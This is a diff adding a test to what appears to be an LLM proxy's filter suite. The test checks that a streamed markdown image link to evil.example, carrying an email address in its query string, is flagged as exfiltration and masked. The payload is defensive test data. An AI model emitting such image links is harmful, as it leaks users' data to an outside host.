@@ -86,6 +86,16 @@ test("a stream is restored and tells its usage", async () => {
   assert.equal(usage.total_tokens, 3);
 });
 
+test("a comment in a stream is passed over", async () => {
+  const content = "See ![ok](https://evil.example/p.png?d=jo.smith@example.com) here.";
+  const body = { model: "echo", messages: [{ role: "user", content }], stream: true };
+  const raw = await client.chat.completions.create(body).asResponse();
+  assert.match(await raw.text(), /\n: chatward-threats: exfiltration; mask\n/);
+  let text = "";
+  for await (const chunk of await client.chat.completions.create(body)) text += chunk.choices[0].delta.content ?? "";
+  assert.equal(text, "See ![ok]([removed]) here.");
+});
+
 test("tool arguments, JSON inside a JSON string, plain and streamed", async () => {
   const data = await client.chat.completions.create(ask("tools"));
   assert.equal(JSON.parse(data.choices[0].message.tool_calls[0].function.arguments).note, `say "${TEXT}"`);
